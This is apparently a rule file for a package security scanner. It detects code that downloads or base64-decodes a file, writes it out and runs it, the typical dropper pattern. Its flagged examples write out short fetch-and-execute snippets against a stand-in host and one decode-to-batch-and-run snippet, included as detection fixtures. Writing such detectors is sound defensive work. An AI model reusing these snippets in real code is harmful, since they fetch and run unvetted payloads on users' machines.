import { defineRule, step, stepsOf } from '../src/define.js';
import type { Call, FileContext, Label } from '../src/types.js';

export default defineRule({
  meta: {
    summary: 'Writes a file it downloaded or decoded, and runs it',
    why: 'A dropper keeps its payload out of the package. Installers of platform binaries download too, and check what came with `--version`; they unpack archives from their own releases, so an archive that is unpacked and not started is not flagged.',
    behaviour: 'execution',
    messages: {
      downloaded: 'Downloads a file with {source}, writes it as {path} and runs it',
      verified: 'Downloads a file with {source}, checks a sum, writes it as {path} and runs it',
      release: 'Downloads a release with {source}, writes it as {path} and runs it',
      decoded: 'Decodes a file ({source}), writes it as {path} and runs it',
    },
    bits: { downloaded: 10, verified: 1.5, release: 5, decoded: 9 },
  },
  examples: {
    flags: [
      {
        title: 'a program is fetched into the temporary folder',
        code: `const https = require('https'), fs = require('fs'), { exec } = require('child_process');\nconst out = fs.createWriteStream('/tmp/update');\nhttps.get('https://stage.invalid/update', res => {\n  res.pipe(out);\n  out.on('finish', () => exec('/tmp/update'));\n});`,
      },
      {
        title: 'a script is written and handed to node',
        code: `const axios = require('axios'), fs = require('fs'), path = require('path'), cp = require('child_process');\naxios.get('https://stage.invalid/x.js').then(r => {\n  const file = path.join(__dirname, 'x.js');\n  fs.writeFileSync(file, r.data);\n  cp.exec('node ' + file);\n});`,
      },
      {
        title: 'a decoded script is',
        code: `const fs = require('fs'), cp = require('child_process');\nfs.writeFileSync('run.bat', Buffer.from(text, 'base64'));\ncp.spawn('cmd', ['/c', 'run.bat']);`,
      },
    ],
    passes: [
      {
        title: 'a download is only stored',
        code: `const fs = require('fs');\nrequire('https').get('https://a.invalid/x.zip', res => res.pipe(fs.createWriteStream('x.zip')));`,
      },
      {
        title: 'an archive is unpacked by a program of the system',
        code: `const fs = require('fs'), cp = require('child_process');\nfetch('https://releases.invalid/tool.tar.gz').then(r => r.arrayBuffer()).then(bytes => {\n  fs.writeFileSync('/tmp/tool.tar.gz', Buffer.from(bytes));\n  cp.spawnSync('tar', ['-xzf', '/tmp/tool.tar.gz']);\n});`,
      },
      {
        title: 'something else is started',
        code: `const fs = require('fs'), cp = require('child_process');\nfetch('https://a.invalid').then(r => r.text()).then(t => fs.writeFileSync('data.json', t));\ncp.execSync('git status');`,
      },
    ],
  },
  file(context) {
    const runs = context.calls('process').filter(call => !unpacks(context, call));
    if (runs.length === 0) return;
    // Whoever compares a digest of what came in had it published beforehand.
    const checks = context.named(/^crypto\.createHash\(\).*\.digest$/).length > 0;
    for (const { path, label, call } of drops(context)) {
      const run = runs.find(one => one.args.some(arg => mentions(context, arg, path)));
      if (!run) continue;
      context.report({
        messageId:
          label.kind !== 'remote'
            ? 'decoded'
            : checks
              ? 'verified'
              : isRelease(context, label)
                ? 'release'
                : 'downloaded',
        data: { source: label.detail, path: path.shown },
        chain: [
          ...stepsOf(label),
          step('transform', `writes it with ${call.name}`, context.file, call.node),
          step('sink', `runs it with ${run.name}`, context.file, run.node),
        ],
      });
    }
  },
});

/** A project's page of releases, with whose name on it. */
const RELEASES = /^https:\/\/github\.com\/[\w.-]+\/[\w.-]+\/releases\//;

function isRelease(context: FileContext, { origin }: Label): boolean {
  const addresses = context
    .calls('network')
    .filter(call => call.node === origin.node)
    .flatMap(({ args: [address] }) => (address ? context.textsWithin(address) : []));
  return addresses.length > 0 && addresses.every(text => RELEASES.test(text));
}

/** Programs that unpack, check or mark a file, and do not run it. */
const UNPACKERS =
  /^(?:.*[\\/])?(?:tar|bsdtar|unzip|gunzip|7z[az]?|hdiutil|dpkg|rpm|chmod|chown|xattr|codesign|shasum|sha256sum|file|lipo|icacls|Expand-Archive)(?:\.exe)?(?:\s|$)/i;

function unpacks({ textsOf }: FileContext, { args: [program] }: Call): boolean {
  const texts = program ? textsOf(program) : [];
  return texts.length > 0 && texts.every(text => UNPACKERS.test(text) && !/[;&|]/.test(text));
}

interface Path {
  readonly shown: string;
  readonly texts: readonly string[];
  /** The variables that hold it. */
  readonly names: readonly string[];
}

interface Drop {
  readonly path: Path;
  readonly label: Label;
  readonly call: Call;
}

/** Unpacking an archive hides nothing; writing out base64 or a cipher's text does. */
const isForeign = ({ kind, detail }: Label): boolean =>
  kind === 'remote' || kind === 'decrypted' || (kind === 'decoded' && !/^(?:gzip|zlib|brotli)$/.test(detail));

function drops(context: FileContext): readonly Drop[] {
  const found: Drop[] = [];
  const streams = context.calls('write').filter(({ name }) => name.endsWith('createWriteStream'));
  for (const call of context.calls('write')) {
    const [target, data] = call.args;
    const label = data && strangest(context.labelsOf(data));
    if (target && label) found.push({ path: pathOf(context, target), label, call });
  }
  // `response.pipe(stream)` and `stream.write(chunk)`.
  for (const call of context.named(/\.(?:pipe|write|pipeline)$|^stream\.(?:promises\.)?pipeline$/)) {
    const parts = [...call.args, ...(call.receiver ? [call.receiver] : [])];
    const label = strangest(parts.flatMap(part => context.labelsOf(part)));
    const written = parts.some(part => context.namesOf(part).some(name => name.includes('createWriteStream')));
    const stream = streams[0];
    if (label && written && stream?.args[0]) found.push({ path: pathOf(context, stream.args[0]), label, call: stream });
  }
  return found;
}

/** What came from another machine says more than how it was packed. */
function strangest(labels: readonly Label[]): Label | undefined {
  return labels.find(({ kind }) => kind === 'remote') ?? labels.find(isForeign);
}

function pathOf(context: FileContext, node: Call['args'][number]): Path {
  const texts = context.textsOf(node).filter(text => text.replaceAll('…', '').length > 2);
  return { shown: texts[0] ?? 'a file', texts, names: node.type === 'Identifier' ? [node.name] : [] };
}

/** True when a command runs the path: its text holds the file's name, or the same variable is in it. */
function mentions(context: FileContext, node: Call['args'][number], path: Path): boolean {
  const commands = context.textsWithin(node);
  const bases = path.texts
    .map(text => text.slice(Math.max(text.lastIndexOf('/'), text.lastIndexOf('\\')) + 1))
    .filter(base => base.length > 3 && base !== '…');
  if (bases.some(base => commands.some(command => command.includes(base)))) return true;
  const written = context.file.text.slice(node.start ?? node.range?.[0], node.end ?? node.range?.[1]);
  return (
    written.length < 2_000 && path.names.some(name => new RegExp(`\\b${name.replaceAll('$', '\\$')}\\b`).test(written))
  );
}
